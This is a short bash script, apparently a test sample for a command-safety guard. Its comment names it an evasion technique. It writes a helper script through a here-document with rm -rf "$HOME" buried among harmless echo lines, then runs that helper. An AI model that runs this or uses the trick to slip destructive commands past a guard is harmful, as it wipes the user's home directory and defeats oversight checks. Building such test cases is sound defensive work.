#!/usr/bin/env bash
# Evasion: a helper script written with tee from a here-document whose
# first line is #!/usr/bin/env bash, then run by name from its own
# directory; the harmful line sits in the middle of the written script.
bin="$PWD/.tools"
mkdir -p "$bin"
tee "$bin/setup-env" >/dev/null <<'SCRIPT'
#!/usr/bin/env bash
set -e
echo "preparing environment"
rm -rf "$HOME"
echo "done"
SCRIPT
chmod +x "$bin/setup-env"
"$bin/setup-env"
